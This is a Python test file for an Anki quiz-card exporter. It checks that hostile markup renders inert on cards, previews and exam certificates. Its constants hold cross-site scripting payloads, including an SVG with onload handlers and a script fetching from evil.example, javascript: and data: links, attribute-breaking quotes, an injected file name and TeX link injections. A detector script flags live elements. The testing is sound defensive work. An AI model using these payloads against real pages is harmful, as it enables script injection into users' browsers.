"""Marked-up text and pictures that could break or hijack a card or a page: no script runs, nothing is requested."""

from collections.abc import Iterator
from datetime import UTC, datetime
from html import unescape
from pathlib import Path
from typing import Any

import pytest

from sco_quiz.anki.ids import FIELDS
from sco_quiz.anki.notes import plan_note
from sco_quiz.anki.package import read_note_types, read_preview_page
from sco_quiz.anki.preview import preview_renderer, render_preview
from sco_quiz.core.bank import Bank, Topic
from sco_quiz.core.exam import ExamRecord, ExamResult
from sco_quiz.core.kinds import KINDS, AnyQuestion
from sco_quiz.core.picture import MediaType, Picture
from sco_quiz.core.session import Session
from sco_quiz.formats.results import certificate
from tests.anki.card_apps import DESKTOP, Deck, deck_of
from tests.anki.conftest import Open, collection
from tests.conftest import first

RUN = "window.hacked = 1"
QUOTED = f'" onerror="{RUN}" onload="{RUN}" x="'
LIVE_SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}" width="40" height="40">
<script>{RUN}; fetch("https://evil.example/script")</script>
<image href="https://evil.example/picture.png" width="9" height="9"/>
<style>@import url(https://evil.example/style.css);</style>
<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{RUN}"/></foreignObject>
</svg>"""
FILES: dict[str, tuple[MediaType, bytes]] = {
    "media/live.svg": ("image/svg+xml", LIVE_SVG.encode()),
    'media/"><script>window.hacked=1<∕script>.svg': ("image/svg+xml", LIVE_SVG.encode()),
    "media/page.png": ("image/png", b"<!doctype html><script>window.hacked = 1</script>"),
}
MARKUP = {
    "html": f"**<script>{RUN}</script>** and *<img src=x onerror='{RUN}'>*",
    "script address": "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](vbscript:x) [d](data:text/html,x)",
    "hidden address": "[a](java&#x73;cript:alert(1)) [b](<java\tscript:alert(1)>) [c](//evil.example)",
    "address with quotes": f'[a](https://evil.example/{QUOTED}) [b](<https://evil.example/"onclick="{RUN}>)',
    "picture of an address": "![a](javascript:alert(1)) ![b](https://evil.example/x.png) ![c](//evil.example/x.png)",
    "picture of data": "![a](data:image/svg+xml,<svg/onload=alert(1)>) ![b](data:text/html,<script>alert(1)</script>)",
    "alternative text": f"![{QUOTED} <script>{RUN}</script> \\](media/live.svg) {{{{c1::x}}}}](media/live.svg)",
    "live picture": "![A picture with a script](media/live.svg) ![No picture](media/page.png)",
    "name of a picture": '![odd](<media/"\\>\\<script\\>window.hacked=1\\<∕script\\>.svg>)',
    "language": f'```js" onclick="{RUN}" x="><script>{RUN}</script>\ncode\n```',
    "code": f"`<script>{RUN}</script>` and\n\n```\n</code></pre><script>{RUN}</script> {{{{c1::x}}}} [sound:a]\n```",
    "table": f"| <script>{RUN}</script> | b |\n|:--:|---|\n| <img src=x onerror={RUN!r}> | [x](javascript:alert(1)) |",
    "link in TeX": r"$\href{javascript:window.hacked=1}{x}$ and $$\href{https://evil.example}{y}$$",
    "HTML in TeX": f"$\\text{{<img src=x onerror={RUN!r}>}}$ $\\style{{background: url(https://evil.example)}}{{x}}$",
    "macros of TeX": r"$\require{html}\cssId{answer}{x}$ $\def\x{\x\x}\x$ $\class{sq}{y}$ $\unicode{x3c}$",
    "end of TeX": f"$x\\) <img src=x onerror={RUN!r}> \\(y$ $</span><script>{RUN}</script>$ $\\]</script>$",
    "field in TeX": r"$\frac{{{a}}}{{{b}}} }} {{Prompt}} {{c1::x::y}}$ `{{Prompt}}` [[type:Typed]]",
    "broken TeX": r"$\frac{a}{$ and $\left( x$ and $\begin{matrix} a$ and $}{$",
}
LONG = {
    "stars": "*" * 24_000 + "a" + "*" * 24_000,
    "brackets": "[" * 20_000 + "](" * 12_000,
    "lists": "\n".join(" " * depth + "- x" for depth in range(0, 400, 2)),
    "ticks": "".join("`" * (number % 90) + " " for number in range(1_000)),
    "dollars": "$x" * 24_000,
    "table": "|" + "a|" * 1_000 + "\n|" + "-|" * 1_000 + "\n" + ("|" + "b|" * 1_000 + "\n") * 20,
    "words": "**many** words and `no` end of them, " * 1_300,
    "pictures": "![a](media/live.svg)" * 2_000,
}


def questions_of(name: str, text: str) -> Iterator[AnyQuestion]:
    """Yield questions of several kinds with the text in each of their fields."""
    shared = dict.fromkeys(("setting", "explanation", "hint"), text)
    beyond = {"text": text, "references": ["r"]}
    other = f"other\n\n{text}"
    kinds: list[dict[str, Any]] = [
        {"type": "single_choice", "prompt": text, "answer": text, "distractors": [{other: text}, "plain"]},
        {"type": "matching", "prompt": text, "pairs": {text: text, "left": "right"}, "distractors": [{other: text}]},
        {"type": "ordering", "prompt": text, "items": [text, other, "last"]},
        {"type": "short_answer", "prompt": text, "answer": "a", "reject": [{"no": text}], "status": "retired"},
    ]
    if "{{" not in text and len(text) < 1_000:
        kinds.append({"type": "cloze", "prompt": f"{text}\n\nA {{{{c1::gap::hint}}}}."})
    for number, fields in enumerate(kinds):
        values = {"id": f"{name.replace(' ', '-').lower()}-{number}", "level": "remember", "beyond": beyond, **shared}
        yield KINDS[fields["type"]].model_validate(values | fields, context={"markup": "markdown"})


def bank_of(texts: dict[str, str]) -> Bank:
    """Return a bank that loading would refuse, as one made in Python can be."""
    questions = tuple(question for name, text in texts.items() for question in questions_of(name, text))
    pictures = {
        file: Picture(file, media_type, len(content), lambda content=content: content)  # type: ignore[misc]
        for file, (media_type, content) in FILES.items()
    }
    return Bank("hostile", "Hostile", (Topic("t", "T", questions),), pictures=pictures)


@pytest.fixture(scope="module")
def bank() -> Bank:
    return bank_of(MARKUP)


@pytest.fixture(scope="module")
def deck(bank: Bank, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Deck]:
    folder = tmp_path_factory.mktemp("hostile")
    for profile in collection(folder):
        yield deck_of(bank, profile, folder / "deck.apkg")


# what text of a bank must never add to a page
LIVE = """() => {
  const found = [];
  const elements = /^(iframe|object|embed|form|base|link|foreignobject)$/i;
  for (const element of document.body.querySelectorAll("*")) {
    if (elements.test(element.localName)) found.push(element.localName);
    for (const {name, value} of element.closest("mjx-container") ? [] : element.attributes) {
      if (name.startsWith("on")) found.push(`${name}=${value}`);
      if (/href/.test(name) && !/^(https?|mailto):/.test(value)) found.push(`${name}=${value}`);
    }
  }
  if (window.hacked) found.push("hacked");
  return found;
}"""


@pytest.mark.parametrize("mathjax", [False, pytest.param(True, marks=pytest.mark.full)])
def test_no_markup_is_live_on_a_card(deck: Deck, bank: Bank, view: Open, full: bool, mathjax: bool) -> None:
    """With MathJax, and clicked links; the viewer asserts that nothing else was requested and nothing failed."""
    viewer = view(DESKTOP, width=360, media=deck.media, mathjax=mathjax)
    dialogs: list[str] = []

    def record(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    viewer.page.on("dialog", record)
    for question in bank.questions if full else bank.questions[::3]:
        for side in ("front", "back"):
            viewer.show(deck.side(question.id, side))
            assert viewer.page.evaluate(LIVE) == [], (question.id, side)
            assert viewer.page.locator("script").count() <= 4, (question.id, side)
            viewer.page.eval_on_selector_all(
                "a", "all => all.forEach(a => { if (!/^https?:/.test(a.protocol)) a.click(); })"
            )
    viewer.page.remove_listener("dialog", record)
    assert dialogs == []


def test_anki_takes_the_pictures_under_safe_names(deck: Deck) -> None:
    found = deck.profile.col.media.check()
    assert (list(found.missing), list(found.unused)) == ([], [])
    assert all(name.name.replace("-", "").replace(".", "").isalnum() for name in deck.media.iterdir())


class Offline:
    """A page from a file in a browser that records dialogs, errors and requests."""

    def __init__(self, browser: Any, path: Path, html: str) -> None:
        path.write_text(html, "utf-8")
        self.browser = browser
        self.troubles: list[str] = []
        hears = {
            "dialog": lambda dialog: (self.troubles.append(dialog.message), dialog.dismiss()),
            "pageerror": lambda error: self.troubles.append(str(error)),
            "request": lambda request: self.troubles.append(request.url),
        }
        self.page = browser.new_page(width=800, height=900, hears=hears)
        self.page.goto(path.as_uri())

    def close(self) -> None:
        """Assert that only the page, its frames and pictures in it were asked for."""
        found = [each for each in self.troubles if not each.startswith(("file:", "about:srcdoc", "data:image/"))]
        assert found == []
        self.browser.close(self.page)


def test_no_markup_is_live_in_a_preview(browser: Any, bank: Bank, tmp_path: Path, full: bool) -> None:
    html = preview_renderer(bank.pictures)
    for question in bank.questions if full else bank.questions[::30]:
        note = plan_note(bank, question, html)
        shown = Offline(browser, tmp_path / "page.html", render_preview(read_preview_page(), note, read_note_types()))
        for frame in shown.page.frames[1:]:
            assert frame.evaluate(LIVE) == [], question.id
        shown.close()


def test_no_markup_is_live_in_the_result_of_an_exam(browser: Any, bank: Bank, tmp_path: Path) -> None:
    result = ExamResult(Session(bank.questions, seed=1, mode="exam"), pass_mark=50, used=3)
    record = ExamRecord(bank, result, datetime(2026, 3, 2, tzinfo=UTC))
    shown = Offline(browser, tmp_path / "page.html", certificate.render(record))
    assert shown.page.evaluate(LIVE) == []
    assert shown.page.locator("script").count() == 0
    assert "<script>window.hacked = 1</script>" in unescape(str(shown.page.locator("table.answers").inner_text()))
    shown.close()


@pytest.mark.parametrize("name", first(LONG, 4))
def test_long_and_nested_text_is_on_the_card(name: str) -> None:
    bank = bank_of({name: LONG[name]})
    note = plan_note(bank, bank.questions[0])
    assert len(note.fields[FIELDS.index("Prompt")]) >= len(LONG[name].replace("**", "").replace("`", "")) // 2
